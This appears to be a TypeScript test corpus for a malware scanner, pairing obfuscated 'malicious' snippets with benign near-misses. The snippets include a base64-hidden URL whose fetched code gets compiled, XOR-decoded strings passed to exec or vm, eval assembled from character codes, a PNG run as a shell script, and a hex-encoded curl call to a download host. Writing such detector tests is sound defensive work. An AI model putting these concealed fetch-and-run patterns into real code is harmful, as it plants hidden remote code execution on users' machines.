import type { RuleExamples } from "./corpus-case.ts";

/** Encoded or scrambled text, and data, that run as code. */
export const evaluatedCode: readonly RuleExamples[] = [
  {
    rule: "code-fetched-from-decoded-address",
    malicious: [
      {
        "config/prepare.cjs":
          'const parts = ["aHR0cHM6Ly", "9ub3Rlcy5k", "ZXYvYw=="];\nconst from = Buffer.from(parts.join(""), "base64").toString();\nrequire("https").get(from, (answer) => {\n  let text = "";\n  answer.on("data", (piece) => (text += piece));\n  answer.on("end", () => module.constructor.prototype._compile.call(module, text, __filename));\n});\n',
      },
    ],
    nearMiss: [
      {
        "scripts/image.mjs":
          'const answer = await fetch(imageAddress);\nconst { data } = await answer.json();\nconst image = Buffer.from(data, "base64");\n',
      },
    ],
  },
  {
    rule: "scrambled-code-run",
    malicious: [
      {
        "scripts/plural.mjs":
          "import vm from 'node:vm';\nconst source = String.fromCharCode(...table.map((number) => number ^ 0x5a));\nvm.runInNewContext(source, { require, process, fetch });\n",
      },
      {
        "scripts/notes.mjs":
          'const text = codes.map((code) => String.fromCharCode(code ^ key)).join("");\nexecSync(text);\n',
      },
      { "scripts/words.py": "words = open('words.txt').read()\nsource = words[::-1]\nexec(source)\n" },
    ],
    nearMiss: [
      { "scripts/reverse.py": "line = input()\nprint(line[::-1])\n" },
      {
        "scripts/last.py":
          'import os\nlines = open("notes.txt").read().splitlines()[::-1]\nprint(lines[0])\nos.system(command)\n',
      },
      {
        "scripts/size.py":
          'import subprocess\ndef header(count):\n    return count.to_bytes(2, "big")\nsubprocess.run(command, shell=True)\n',
      },
      {
        "scripts/size.mjs":
          'const name = String.fromCharCode(...bytes);\nconsole.log(name);\nexecSync(command, { stdio: "inherit" });\n',
      },
      { "scripts/check.mjs": "let sum = 0;\nfor (const byte of bytes) sum = (sum << 1) ^ byte ^ 0x1f;\n" },
    ],
  },
  {
    rule: "function-name-put-together",
    malicious: [
      { "scripts/palette.js": "module['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'](name(0))[name(1)](name(2));\n" },

      {
        "scripts/palette.py":
          'import builtins\nrun = getattr(builtins, "".join(chr(c) for c in (101, 120, 101, 99)))\nrun(rows)\n',
      },
      { "scripts/palette.mjs": 'globalThis["ev" + "al"](rows);\n' },
    ],
    nearMiss: [
      { "scripts/palette.js": "const table = rows(0)[index(1)];\nconsole.log('\\x1b[1m' + table);\n" },

      { "scripts/palette.py": 'import colors\nprint(getattr(colors, "dark_" + name))\n' },
      { "scripts/palette.mjs": 'console.log(window["devicePixelRatio"]);\n' },
    ],
  },
  {
    rule: "data-file-run",
    malicious: [
      { "scripts/build.sh": "#!/bin/sh\nmkdir -p build\nsh assets/logo.png\n" },
      { "scripts/build.py": 'exec(open("assets/words.dat").read())\n' },
    ],
    nearMiss: [
      { "scripts/build.sh": "#!/bin/sh\npython3 scripts/convert.py assets/logo.png\n" },
      { "scripts/build.sh": "#!/bin/sh\nsh install.bin\nsource build.lock\nbash run.log\n" },
      { "scripts/build.py": 'logo = open("assets/logo.png", "rb").read()\n' },
    ],
  },
  {
    rule: "command-name-encoded",
    malicious: [
      { "scripts/notes.sh": "$(printf '\\x63\\x75\\x72\\x6c') -s https://dl.note-tools.dev/n\n" },
      { "scripts/notes.sh": 'P=$(tail -1 "$0" | xxd -r -p); sh -c "$P"; exit\n' },
    ],
    nearMiss: [{ "scripts/notes.sh": "printf '\\x1b[1mNotes\\x1b[0m'\nDATE=$(printf '%(%F)T')\n" }],
  },
  {
    rule: "decode-then-run",
    malicious: [
      {
        "scripts/art.py":
          'import base64\ndef r(x): return "".join(chr(c ^ 7) for c in base64.b64decode(x))\nD = "aGVsbG8="\nexec(r(D))\n',
      },
      { "scripts/a.py": "import base64\nsource = base64.b64decode(blob)\nexec(source)\n" },
      { "scripts/a.js": "const source = Buffer.from(blob, 'base64').toString()\neval(source)\n" },
    ],
    nearMiss: [
      { "scripts/a.py": "import base64\nimage = base64.b64decode(blob)\nsave(image)\n" },
      { "scripts/a.js": "const text = atob(blob)\nconst found = /a(b)/.exec(text)\n" },
    ],
  },
];
